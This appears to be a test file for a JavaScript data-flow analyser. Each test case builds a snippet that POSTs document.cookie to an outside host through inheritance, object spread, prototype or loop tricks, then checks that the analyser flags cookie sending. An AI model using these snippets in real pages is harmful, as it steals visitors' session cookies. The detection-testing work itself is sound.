import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { sentKinds } from '../../../testing/sent-kinds.ts';

const post = (value: string): string =>
  `fetch('https://in.a.dev/a', { method: 'POST', body: ${value} })`;

/** What methods keep in objects that others extend, or take methods from: `{sent}` is sent, and `{kept}` is not. */
const forms: Readonly<Record<string, string>> = {
  'a list that the class above fills': `class Q { constructor() { this.items = []; this.log = [] } push(x) { this.items.push(x) } note(x) { this.log.push(x) } } class P extends Q { send() { ${post('this.items.join()')} } } const p = new P(); p.push({sent}); p.note({kept}); p.send()`,
  'a list two classes above': `class Q { items = []; log = []; push(x) { this.items.push(x) } note(x) { this.log.push(x) } } class P extends Q {} class R extends P { send() { ${post('this.items[0]')} } } const r = new R(); r.push({sent}); r.note({kept}); r.send()`,
  'a list that the class below fills': `class Q { items = []; log = []; take() { return this.items.shift() } } class P extends Q { push(x) { this.items.push(x) } note(x) { this.log.push(x) } } const p = new P(); p.push({sent}); p.note({kept}); ${post('p.take()')}`,
  'a table that the class below fills': `class Q { state = {}; notes = {}; flush() { ${post('JSON.stringify(this.state)')} } } class P extends Q { add(x) { this.state.c = x } note(x) { this.notes.c = x } } const p = new P(); p.add({sent}); p.note({kept}); p.flush()`,
  'methods that are spread into an object': `const base = { push(x) { this.items.push(x) }, note(x) { this.log.push(x) } }; const q = { ...base, items: [], log: [], take() { return this.items.shift() } }; q.push({sent}); q.note({kept}); ${post('q.take()')}`,
  'a member of the object that a method is spread into': `const base = { send() { ${post('this.v')} } }; const q = { ...base, v: {sent}, w: {kept} }; q.send()`,
  'methods that are assigned to a prototype': `const base = { push(x) { this.items.push(x) }, note(x) { this.log.push(x) } }; class Q { items = []; log = []; take() { return this.items.shift() } } Object.assign(Q.prototype, base); const q = new Q(); q.push({sent}); q.note({kept}); ${post('q.take()')}`,
  'a prototype that is written out': `const base = { set(k, v) { this.data[k] = v }, note(v) { this.log = v } }; const store = { __proto__: base, data: {}, get(k) { return this.data[k] } }; store.data.one = 'x'; store.set('one', {sent}); store.note({kept}); ${post("store.get('one')")}`,
  'what all objects have': `class Store { get() { return this.v } } const a = new Store(); Object.prototype.v = {sent}; Object.prototype.w = {kept}; ${post('a.get()')}`,
  'a member that a loop gives': `const a = { v: 'x' }, b = {}; for (a.v of [{sent}]); for (b.v of [{kept}]); ${post('a.v')}`,
  'members that a loop gives by a pattern': `const a = { v: 'x' }; for ([a.v, a.w] of [[{sent}, {kept}]]) { ${post('a.v')} }`,
  'a list that a method hands out': `class Q { items = []; log = []; all() { return this.items } notes() { return this.log } } const q = new Q(); q.all().push({sent}); q.notes().push({kept}); ${post('q.items[0]')}`,
  'a method called by one of two names': `class Store { set(v) { this.v = v } put(v) { this.w = v } } const a = new Store(); a[location.hash ? 'set' : 'get']({sent}); a.put({kept}); ${post('a.v')}`,
};

describe('what objects keep that share methods', () => {
  for (const [name, code] of Object.entries(forms))
    it(name, () => {
      const filled = (sent: string, kept: string): string =>
        code.replaceAll('{sent}', sent).replaceAll('{kept}', kept);
      assert.ok(sentKinds('page', filled('document.cookie', "'x'")).has('cookies'));
      assert.ok(!sentKinds('page', filled("'x'", 'document.cookie')).has('cookies'));
    });
});
